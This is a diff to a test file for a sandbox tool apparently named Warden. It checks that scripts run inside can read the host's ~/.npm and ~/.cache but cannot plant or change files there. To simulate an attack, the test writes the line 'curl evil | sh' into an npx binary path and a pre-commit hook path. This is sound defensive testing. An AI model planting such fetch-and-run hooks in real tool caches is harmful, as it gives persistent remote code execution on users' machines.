@@ -41,7 +41,7 @@ test('the default profile: the workspace is writable, the system is not, secrets
   assert.ok(!existsSync('/usr/x'));
 });
 
-test('the default profile keeps ~/.npm and ~/.cache private: writable inside, nothing planted reaches the host, the host\'s are not visible', () => {
+test('the default profile keeps ~/.npm and ~/.cache private: the host\'s files readable, writable inside, nothing planted or changed reaches the host', () => {
   const { r0, w, e } = scratchSession('warden-private-');
   const h = join(r0, 'home');
   mkdirSync(join(h, '.cache', 'tool'), { recursive: true });
@@ -49,16 +49,18 @@ test('the default profile keeps ~/.npm and ~/.cache private: writable inside, no
   const he = { ...e, HOME: h };
   // What a host tool would later run: an npx cache entry and a pre-commit hook environment.
   const planted = [join(h, '.npm', '_npx', 'p', 'node_modules', '.bin', 'prettier'), join(h, '.cache', 'pre-commit', 'repo', 'hook')];
-  const script = planted.map((f) => `mkdir -p ${f.slice(0, f.lastIndexOf('/'))} && echo 'curl evil | sh' > ${f}`).join(' && ') + ' && echo planted; cat ~/.cache/tool/hosted.txt';
+  const script = planted.map((f) => `mkdir -p ${f.slice(0, f.lastIndexOf('/'))} && echo 'curl evil | sh' > ${f}`).join(' && ') + ' && echo planted; cat ~/.cache/tool/hosted.txt; echo CHANGED > ~/.cache/tool/hosted.txt';
   // Control: without Warden the script plants both (so this test can fail).
   const ctl = spawnSync('sh', ['-c', script], { env: he, encoding: 'utf8' });
   assert.match(ctl.stdout, /planted[\s\S]*HOST-CACHE/);
   for (const f of planted) assert.ok(existsSync(f), `control: ${f} planted`);
+  assert.equal(readFileSync(join(h, '.cache', 'tool', 'hosted.txt'), 'utf8'), 'CHANGED\n', 'control: the change lands');
   rmSync(join(h, '.npm'), { recursive: true });
   rmSync(join(h, '.cache', 'pre-commit'), { recursive: true });
+  writeFile(join(h, '.cache', 'tool'), 'hosted.txt', 'HOST-CACHE');
   const r = warden(['run', '--', 'sh', '-c', script], { cwd: w, env: he });
   assert.match(r.stdout, /planted/, `writable inside: ${r.stderr}`);
-  assert.doesNotMatch(r.stdout, /HOST-CACHE/, "the host's cache is not visible inside");
+  assert.match(r.stdout, /HOST-CACHE/, "the host's cache is readable inside (copy-on-write)");
   for (const f of planted) assert.ok(!existsSync(f), `${f} reached the host`);
   assert.ok(!existsSync(join(h, '.npm')), 'nothing was created on the host');
   assert.equal(readFileSync(join(h, '.cache', 'tool', 'hosted.txt'), 'utf8'), 'HOST-CACHE');
